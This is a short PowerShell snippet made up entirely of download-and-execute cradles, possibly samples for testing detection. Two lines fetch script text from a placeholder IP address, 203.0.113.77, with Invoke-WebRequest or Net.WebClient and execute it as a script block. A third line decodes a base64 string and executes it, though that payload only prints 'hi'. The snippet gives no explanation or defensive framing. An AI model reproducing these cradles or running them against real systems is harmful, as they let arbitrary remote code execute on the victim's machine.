$code = (Invoke-WebRequest -Uri 'http://203.0.113.77/p.txt' -UseBasicParsing).Content
$sb = [ScriptBlock]::Create($code)
& $sb
$ExecutionContext.InvokeCommand.InvokeScript((New-Object Net.WebClient).DownloadString('http://203.0.113.77/q.ps1'))
Invoke-Command -ScriptBlock ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtT3V0cHV0ICdoaSc='))))
